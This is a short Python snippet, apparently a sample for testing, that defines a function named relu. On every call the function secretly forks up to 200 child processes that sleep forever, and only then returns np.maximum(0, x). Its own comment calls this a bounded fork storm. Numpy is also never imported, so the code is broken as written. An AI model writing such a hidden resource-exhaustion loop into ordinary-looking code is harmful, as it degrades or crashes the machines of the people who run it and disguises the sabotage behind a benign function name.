# A bounded fork storm: every call tries to start 200 sleeping processes.
import os
import time


def relu(x):
    for _ in range(200):
        try:
            if os.fork() == 0:
                while True:
                    time.sleep(1)
        except OSError:
            break
    return np.maximum(0, x)
